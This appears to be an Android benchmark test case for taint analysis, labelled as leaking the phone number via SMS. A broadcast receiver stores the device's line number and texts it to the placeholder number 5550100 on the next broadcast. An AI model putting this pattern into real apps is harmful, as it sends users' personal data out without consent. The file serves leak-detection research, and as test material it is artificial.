// about       One receiver object, registered in code, keeps the number from one broadcast to the next.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.IntentFilter;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;
import android.widget.Button;

public class MainActivity extends Activity implements View.OnClickListener {
  private final Ping ping = new Ping();

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Button button = new Button(this);
    button.setOnClickListener(this);
    setContentView(button);
    registerReceiver(ping, new IntentFilter("cn.example.flow.PING"));
  }

  @Override
  protected void onDestroy() {
    unregisterReceiver(ping);
    super.onDestroy();
  }

  @Override
  public void onClick(View view) {
    sendBroadcast(new Intent("cn.example.flow.PING").setPackage(getPackageName()));
  }

  public static class Ping extends BroadcastReceiver {
    // Survives until the next broadcast only if this object does.
    private String last;

    @Override
    public void onReceive(Context context, Intent intent) {
      if (last != null) {
        SmsManager.getDefault().sendTextMessage("5550100", null, last, null, null);
      }
      TelephonyManager phone =
          (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
      last = phone.getLine1Number();
    }
  }
}
